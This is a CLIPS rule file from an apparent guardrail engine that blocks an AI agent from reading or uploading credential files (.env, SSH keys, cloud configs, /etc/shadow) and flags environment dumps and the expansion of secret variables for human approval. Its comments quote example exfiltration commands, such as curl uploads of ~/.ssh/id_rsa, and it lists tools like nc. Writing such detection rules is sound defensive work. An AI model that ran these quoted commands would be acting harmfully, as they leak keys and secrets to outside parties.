;;; credentials.clp — reading or sending credentials: .env files, SSH/cloud/kube keys,
;;; netrc, git credentials, /etc/shadow, private keys, and environment dumps.
;;;
;;; An agent never needs the bytes of a credential file: tools that use keys read them
;;; themselves. Reading one into the agent's context is the first step of exfiltration.

;; Programs that read (and print, copy, encode or ship) their file operands.
(defglobal ?*cred-readers* =
  (create$ "cat" "tac" "less" "more" "most" "head" "tail" "nl" "bat" "batcat" "view" "vi" "vim" "nvim" "nano" "emacs" "cp" "mv" "scp" "rsync" "sftp" "base64" "base32" "basenc" "xxd" "od" "hexdump" "hd" "strings" "grep" "egrep" "fgrep" "rg" "ag" "ack" "awk" "gawk" "mawk" "sed" "cut" "sort" "uniq" "diff" "cmp" "paste" "tr" "jq" "yq" "tar" "zip" "gzip" "bzip2" "xz" "zstd" "7z" "openssl" "gpg" "curl" "wget" "nc" "ncat" "dd" "tee" "python" "python3" "perl" "ruby" "node" "source" "." "xclip" "xsel" "pbcopy" "install" "ln" "docker" "kubectl"))

;; TRUE for a normalized path that names a credential file. Home-independent patterns (any
;; `.ssh/`, `.aws/` …) so /root and other users' homes count too. `.env.example` and friends
;; are templates without secrets and are excluded.
(deffunction cred-path-lexical-p (?p)
  (and (regex-match "(^|/)(\\.env(\\.[^/]*)?|\\.netrc|_netrc|\\.git-credentials|\\.pgpass|id_(rsa|dsa|ecdsa|ed25519)[^/]*|[^/]*\\.(pem|key|p12|pfx|jks|keystore|ppk))$|/\\.(ssh|aws|kube|gnupg|azure)(/|$)|/\\.docker/config\\.json$|/\\.config/(gcloud|gh)(/|$)|^/etc/(shadow|gshadow|sudoers)(-|$)|^/etc/sudoers\\.d(/|$)|^/proc/[^/]+/environ$|^/(var/)?run/secrets(/|$)" ?p)
       (not (regex-match "(^|/)\\.env\\.(example|sample|template|dist|defaults)$" ?p))))

;; TRUE for a normalized path that holds credentials as written or once symlinks are
;; followed (`ws/etc_link/shadow` with `etc_link -> /etc` is /etc/shadow).
(deffunction cred-path-p (?p)
  (or (cred-path-lexical-p ?p) (cred-path-lexical-p (path-resolve ?p))))

;; TRUE for a curl-style file reference "@FILE" / "name=@FILE" / "name=<FILE" naming a
;; credential (resolved against the command's cwd).
(deffunction cred-at-file-p (?a ?cwd)
  (bind ?i (str-index "@" ?a))
  (if (not ?i) then (bind ?i (str-index "=<" ?a)) (if ?i then (bind ?i (+ ?i 1))))
  (if (or (not ?i) (>= ?i (str-length ?a))) then (return FALSE))
  (cred-path-p (path-normalize (sub-string (+ ?i 1) (str-length ?a) ?a) ?cwd)))

;; Stops the file actuator reading `.env`, `~/.ssh/id_rsa`, `~/.aws/credentials`,
;; `~/.kube/config`, `/etc/shadow`, `*.pem` …, inside the workspace or not, named directly
;; or through a symlink (the path fact's `resolved`).
(defrule credentials-file-read
  (or (proposal (id ?id) (target file) (action read))
      (and (proposal (id ?id) (target file))
           (param (proposal ?id) (key "payload.action") (value "read"))))
  (path (proposal ?id) (key "payload.path") (normalized ?p) (resolved ?r))
  (test (or (cred-path-lexical-p ?p) (cred-path-lexical-p ?r)))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule credentials-file-read)
                    (reason (str-cat "read of a credential file: " ?p
                                     (if (and (neq ?r "") (neq ?r ?p)) then (str-cat " (resolves to " ?r ")") else ""))))))

;; Stops `cat .env`, `head ~/.aws/credentials`, `base64 ~/.ssh/id_rsa`, `scp ~/.ssh/id_rsa h:`,
;; `grep -r KEY ~/.aws`, `tar czf x.tgz ~/.ssh`, `curl -T ~/.netrc …`: a program that reads or
;; ships its file operands, pointed at a credential.
(defrule credentials-shell-read
  (shell-command (proposal ?id)
                 (program ?prog&:(member$ ?prog ?*cred-readers*))
                 (paths $? ?p&:(cred-path-p ?p) $?))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule credentials-shell-read)
                    (reason (str-cat "command reads a credential file: " ?p)))))

;; Stops `base64 < ~/.ssh/id_rsa`, `curl --data-binary @- x < .env`: input redirected from
;; a credential file.
(defrule credentials-shell-redirect-read
  (shell-redirect (proposal ?id) (op "<"|"<>"|"<&") (path ?p&:(cred-path-p ?p)))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule credentials-shell-redirect-read)
                    (reason (str-cat "input redirected from a credential file: " ?p)))))

;; Stops `curl -F f=@~/.ssh/id_rsa x`, `curl --data-binary @.env x`, `http x f@~/.aws/credentials`:
;; uploads that name the file after "@".
(defrule credentials-shell-upload
  (shell-command (proposal ?id) (program "curl"|"wget"|"http"|"https"|"xh"|"httpie")
                 (cwd ?cwd)
                 (argv $? ?a&:(or (str-index "@" ?a) (str-index "=<" ?a))&:(cred-at-file-p ?a ?cwd) $?))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule credentials-shell-upload)
                    (reason (str-cat "upload of a credential file: " ?a)))))

;; Asks a human for `env`, `printenv`, `export -p`, `declare -x` with nothing to run or
;; print: the whole environment (API keys, tokens) lands in the agent's context.
(defrule credentials-env-dump
  (shell-command (proposal ?id) (program "env"|"printenv"|"export"|"declare"|"typeset") (args))
  =>
  (assert (decision (proposal ?id) (outcome approval-required) (rule credentials-env-dump)
                    (reason "dumps the environment, which holds secrets"))))

;; Asks a human when a command expands a secret-looking variable (`echo $AWS_SECRET_ACCESS_KEY`,
;; `curl -d "$GITHUB_TOKEN" x`): the value ends up in output or on the wire.
(defrule credentials-secret-variable
  (pattern-hit (proposal ?id) (key "payload.command") (kind regex)
               (pattern "(?i)\\$\\{?[A-Za-z0-9_]*(secret|token|passw(or)?d|api_?key|private_key|access_key|credential)[A-Za-z0-9_]*"))
  (proposal (id ?id) (target shell))
  =>
  (assert (decision (proposal ?id) (outcome approval-required) (rule credentials-secret-variable)
                    (reason "command expands a secret-holding variable"))))
